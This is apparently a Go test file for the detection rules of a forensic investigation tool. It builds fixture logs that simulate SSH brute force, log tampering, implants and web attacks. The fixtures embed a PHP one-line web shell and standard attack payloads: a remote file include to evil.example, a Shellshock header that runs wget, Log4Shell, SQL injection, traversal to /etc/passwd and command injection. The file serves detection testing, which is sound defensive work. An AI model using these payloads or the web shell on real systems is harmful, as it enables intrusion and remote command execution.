package investigate

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/nowwhat/nowwhat/internal/base/fixture"
	"github.com/nowwhat/nowwhat/internal/detect/rules"
)

// A scene writes what one rule needs into a Debian fixture root.
type scene func(r *fixture.Root, t0 time.Time)

func authLog(lines ...string) scene {
	return func(r *fixture.Root, t0 time.Time) {
		var b strings.Builder
		for i, l := range lines {
			b.WriteString(syslog(t0.Add(time.Duration(i)*time.Second), "web1", l))
		}
		r.File("/var/log/auth.log", b.String(), 0o640)
	}
}

// guessing is n failed passwords from ip on the accounts given in turn.
func guessing(ip string, n int, users ...string) []string {
	var out []string
	for i := range n {
		out = append(out, fmt.Sprintf("sshd[%d]: Failed password for %s from %s port %d ssh2", 100+i, users[i%len(users)], ip, 40000+i))
	}
	return out
}

func accepted(method, user, ip string) string {
	return fmt.Sprintf("sshd[900]: Accepted %s for %s from %s port 50000 ssh2", method, user, ip)
}

// webLog writes an access log whose lines are "IP METHOD TARGET STATUS [USER-AGENT]".
func webLog(reqs ...string) scene {
	return func(r *fixture.Root, t0 time.Time) {
		var b strings.Builder
		for i, q := range reqs {
			f := strings.SplitN(q, " ", 5)
			ua := "Mozilla/5.0"
			if len(f) == 5 {
				ua = f[4]
			}
			fmt.Fprintf(&b, "%s - - [%s] \"%s %s HTTP/1.1\" %s 512 \"-\" %q\n", f[0], t0.Add(time.Duration(i)*time.Minute).Format("02/Jan/2006:15:04:05 -0700"), f[1], f[2], f[3], ua)
		}
		r.File("/var/log/nginx/access.log", b.String(), 0o640)
	}
}

func both(a, b scene) scene {
	return func(r *fixture.Root, t0 time.Time) { a(r, t0); b(r, t0) }
}

// investigateCases: for each rule investigate raises, a minimal scene that fires it and a near
// miss that must not.
var investigateCases = []struct {
	id         string
	fire, near scene
}{
	{"entry.ssh-bruteforce",
		authLog(append(guessing("203.0.113.66", 20, "deploy"), accepted("password", "deploy", "203.0.113.66"))...),
		authLog(guessing("203.0.113.66", 20, "deploy")...)},
	{"entry.ssh-stolen-credentials", // a password login into root from an address never seen before
		authLog(accepted("publickey", "alice", "192.0.2.10"), accepted("password", "root", "198.51.100.9")),
		authLog(accepted("publickey", "alice", "192.0.2.10"), accepted("password", "root", "192.0.2.10"))},
	{"ssh.bruteforce",
		authLog(guessing("203.0.113.66", 20, "root")...),
		authLog(guessing("203.0.113.66", 3, "root")...)},
	{"ssh.spray",
		authLog(guessing("203.0.113.66", 20, "admin", "oracle", "deploy", "test", "git")...),
		authLog(guessing("203.0.113.66", 20, "admin")...)},
	{"login.root",
		authLog(accepted("publickey", "root", "192.0.2.10")),
		authLog(accepted("publickey", "alice", "192.0.2.10"))},
	{"login.new-address",
		authLog(accepted("publickey", "alice", "192.0.2.10"), accepted("publickey", "alice", "192.0.2.10"), accepted("publickey", "alice", "198.51.100.77")),
		authLog(accepted("publickey", "alice", "192.0.2.10"), accepted("publickey", "alice", "192.0.2.10"), accepted("publickey", "alice", "192.0.2.10"))},
	{"login.unusual-hour",
		func(r *fixture.Root, t0 time.Time) {
			var b strings.Builder
			day := t0.Truncate(24 * time.Hour).Add(-10 * 24 * time.Hour)
			for i := range 6 {
				b.WriteString(syslog(day.Add(time.Duration(i)*24*time.Hour+9*time.Hour), "web1", accepted("publickey", "alice", "192.0.2.10")))
			}
			b.WriteString(syslog(day.Add(7*24*time.Hour+3*time.Hour), "web1", accepted("publickey", "alice", "192.0.2.10")))
			r.File("/var/log/auth.log", b.String(), 0o640)
		},
		func(r *fixture.Root, t0 time.Time) {
			var b strings.Builder
			day := t0.Truncate(24 * time.Hour).Add(-10 * 24 * time.Hour)
			for i := range 7 {
				b.WriteString(syslog(day.Add(time.Duration(i)*24*time.Hour+9*time.Hour), "web1", accepted("publickey", "alice", "192.0.2.10")))
			}
			r.File("/var/log/auth.log", b.String(), 0o640)
		}},
	{"privilege.sudo-shell",
		authLog("sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash"),
		authLog("sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt-get update")},
	{"package.outside-session", packageInstall(false), packageInstall(true)},
	{"kernel.module-loaded",
		func(r *fixture.Root, t0 time.Time) {
			r.File("/var/log/kern.log", syslog(t0, "web1", "kernel: [ 1234.5] diamorphine: loading out-of-tree module taints kernel."), 0o640)
		},
		func(r *fixture.Root, t0 time.Time) {
			r.File("/var/log/kern.log", syslog(t0, "web1", "kernel: [ 1234.7] eth0: link up"), 0o640)
		}},
	{"tamper.audit",
		func(r *fixture.Root, t0 time.Time) {
			r.File("/var/log/audit/audit.log", fmt.Sprintf("type=CONFIG_CHANGE msg=audit(%d.0:2): auid=0 ses=1 op=remove_rule key=\"ssh\" list=4 res=1\n", t0.Unix()), 0o600)
		},
		func(r *fixture.Root, t0 time.Time) {
			r.File("/var/log/audit/audit.log", fmt.Sprintf("type=CONFIG_CHANGE msg=audit(%d.0:2): auid=0 ses=1 op=add_rule key=\"ssh\" list=4 res=1\n", t0.Unix()), 0o600)
		}},
	{"tamper.log-gap", cronLog(true), cronLog(false)},
	{"tamper.login-records",
		func(r *fixture.Root, t0 time.Time) {
			r.File("/var/log/wtmp", string(append(wtmpRecord(2, "~", "reboot", "6.1", t0), make([]byte, 384)...)), 0o664)
		},
		func(r *fixture.Root, t0 time.Time) {
			r.File("/var/log/wtmp", string(append(wtmpRecord(2, "~", "reboot", "6.1", t0), wtmpRecord(7, "pts/0", "alice", "192.0.2.10", t0.Add(time.Hour))...)), 0o664)
		}},
	{"tamper.lastlog-wtmp",
		func(r *fixture.Root, t0 time.Time) {
			r.File("/var/log/wtmp", string(wtmpRecord(2, "~", "reboot", "6.1", t0.Add(-48*time.Hour))), 0o664)
			r.File("/var/log/lastlog", string(lastlogFile(map[int]time.Time{0: t0}, "203.0.113.9")), 0o664)
		},
		func(r *fixture.Root, t0 time.Time) {
			r.File("/var/log/wtmp", string(append(wtmpRecord(2, "~", "reboot", "6.1", t0.Add(-48*time.Hour)), wtmpRecord(7, "pts/0", "root", "203.0.113.9", t0)...)), 0o664)
			r.File("/var/log/lastlog", string(lastlogFile(map[int]time.Time{0: t0}, "203.0.113.9")), 0o664)
		}},
	{"implant.first-run", auditRun("/tmp/.x/kworkerd"), auditRun("/usr/bin/curl")},
	{"web.exploit-success",
		webLog("203.0.113.81 GET /index.php?id=1%20UNION%20ALL%20SELECT%201,2,3-- 200"),
		webLog("203.0.113.81 GET /index.php?id=1%20UNION%20ALL%20SELECT%201,2,3-- 404")},
	{"web.upload-then-access",
		webLog("203.0.113.80 POST /wp-admin/async-upload.php 200", "203.0.113.80 GET /wp-content/uploads/thumb.php?c=id 200"),
		webLog("203.0.113.80 GET /index.php 200", "203.0.113.80 GET /wp-content/uploads/thumb.php?c=id 200")},
	{"web.webshell-first-access",
		both(webShell, webLog("203.0.113.80 GET /wp-content/uploads/thumb.php?c=id 200")),
		both(webShell, webLog("203.0.113.80 GET /index.php 200"))},
}

// webAttempts fire each web attack kind (web.KIND); the near miss of each is a plain page view.
var webAttempts = map[string]string{
	"web.sqli":            "203.0.113.5 GET /item.php?id=1%20UNION%20ALL%20SELECT%201,2,3-- 404",
	"web.traversal":       "203.0.113.5 GET /download.php?file=../../../../etc/passwd 404",
	"web.cmd-injection":   "203.0.113.5 GET /ping.php?host=127.0.0.1;id 404",
	"web.lfi":             "203.0.113.5 GET /index.php?page=php://filter/convert.base64-encode/resource=index 404",
	"web.rfi":             "203.0.113.5 GET /index.php?page=http://evil.example/shell.txt? 404",
	"web.log4shell":       "203.0.113.5 GET /$%7Bjndi:ldap://x.example/a%7D 404",
	"web.shellshock":      "203.0.113.5 GET /cgi-bin/status 404 () { :; }; /bin/bash -c 'wget http://x/a'",
	"web.cve-probe":       "203.0.113.5 POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php 404",
	"web.webshell-access": "203.0.113.5 GET /uploads/c99.php 404",
	"web.upload":          "203.0.113.5 PUT /test.txt 201",
	"web.xss":             "203.0.113.5 GET /search.php?q=%3Cscript%3Ealert(1)%3C/script%3E 404",
	"web.php-injection":   "203.0.113.5 POST /cgi-bin/php-cgi?%ADd+allow_url_include%3D1+%ADd+auto_prepend_file%3Dphp://input 404",
	"web.scanner":         "203.0.113.5 GET /w00tw00t.at.ISC.SANS.DFind:) 400",
	"web.admin-probe":     "203.0.113.5 GET /phpMyAdmin-4.8.1/index.php 404",
	"web.proxy-abuse":     "203.0.113.5 CONNECT mail.example.com:25 405",
	"web.login-attempt":   "203.0.113.5 POST /wp-login.php 200",
}

func webShell(r *fixture.Root, _ time.Time) {
	r.File("/var/www/html/wp-content/uploads/thumb.php", "<?php if(isset($_REQUEST['c'])){ echo '<pre>'; system($_REQUEST['c']); } ?>", 0o644)
}

// packageInstall is an administrator's session, and a package installed after it ended (or,
// within, during it).
func packageInstall(within bool) scene {
	return func(r *fixture.Root, t0 time.Time) {
		end := t0.Add(-time.Hour)
		if within {
			end = t0.Add(time.Hour)
		}
		r.File("/var/log/auth.log", syslog(t0.Add(-2*time.Hour), "web1", accepted("publickey", "alice", "192.0.2.10"))+
			syslog(t0.Add(-2*time.Hour+time.Second), "web1", "sshd[900]: pam_unix(sshd:session): session opened for user alice(uid=1000) by (uid=0)")+
			syslog(end, "web1", "sshd[900]: pam_unix(sshd:session): session closed for user alice"), 0o640)
		r.File("/var/log/dpkg.log", t0.Format("2006-01-02 15:04:05")+" install netcat-traditional:amd64 <none> 1.10-47\n", 0o644)
	}
}

// cronLog is a month of cron sessions every ten minutes, two days missing when gap.
func cronLog(gap bool) scene {
	return func(r *fixture.Root, _ time.Time) {
		t0 := time.Now().UTC().Add(-30 * 24 * time.Hour).Truncate(time.Minute)
		var log strings.Builder
		for i := 0; i < 30*24*6; i++ {
			ts := t0.Add(time.Duration(i) * 10 * time.Minute)
			if gap && ts.After(t0.Add(15*24*time.Hour)) && ts.Before(t0.Add(17*24*time.Hour)) {
				continue
			}
			log.WriteString(syslog(ts, "web1", fmt.Sprintf("CRON[%d]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)", 1000+i)))
		}
		r.File("/var/log/auth.log", log.String(), 0o640)
	}
}

// auditRun is a program dropped in /tmp (which check flags) and the audit log's record of exe
// running.
func auditRun(exe string) scene {
	return func(r *fixture.Root, t0 time.Time) {
		r.File("/tmp/.x/kworkerd", "\x7fELF\x02\x01\x01\x00"+strings.Repeat("\x00", 120), 0o755)
		r.File("/var/log/audit/audit.log", fmt.Sprintf("type=SYSCALL msg=audit(%d.100:1): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=4001 auid=1000 uid=1000 comm=\"x\" exe=%q key=\"exec\"\n", t0.Unix(), exe), 0o600)
	}
}

// TestEachInvestigateRule runs investigate on a minimal scene that fires each of its rules and on
// a near miss that must not; every rule investigate raises has both.
func TestEachInvestigateRule(t *testing.T) {
	type tc struct {
		id         string
		fire, near scene
	}
	var cases []tc
	for _, c := range investigateCases {
		cases = append(cases, tc{c.id, c.fire, c.near})
	}
	for id, req := range webAttempts {
		cases = append(cases, tc{id, webLog(req), webLog("203.0.113.5 GET /index.php 200")})
	}
	covered := map[string]bool{}
	for _, c := range cases {
		covered[c.id] = true
		t.Run(c.id, func(t *testing.T) {
			t0 := time.Now().UTC().Add(-2 * time.Hour).Truncate(time.Second)
			for _, want := range []bool{true, false} {
				r := fixture.Debian(t)
				r.File("/etc/timezone", "Etc/UTC\n", 0o644)
				if want {
					c.fire(r, t0)
				} else {
					c.near(r, t0)
				}
				got := ruleCounts(t, investigateRoot(t, r))
				if want && got[c.id] == 0 {
					t.Errorf("%s did not fire on its minimal scene: %v", c.id, got)
				}
				if !want && got[c.id] != 0 {
					t.Errorf("%s fired on its near miss: %v", c.id, got)
				}
			}
		})
	}
	for _, r := range rules.Catalog() {
		if r.Stage == rules.StageInvestigate && !covered[r.ID] {
			t.Errorf("investigate rule %s has no minimal scene and near miss", r.ID)
		}
	}
}
